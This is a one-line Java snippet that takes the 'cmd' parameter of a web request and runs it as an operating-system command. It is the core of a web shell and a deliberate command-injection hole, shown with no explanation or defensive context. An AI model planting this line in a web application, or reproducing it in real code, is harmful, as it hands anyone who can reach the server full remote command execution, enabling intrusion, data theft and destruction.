Runtime.getRuntime().exec(request.getParameter("cmd"));
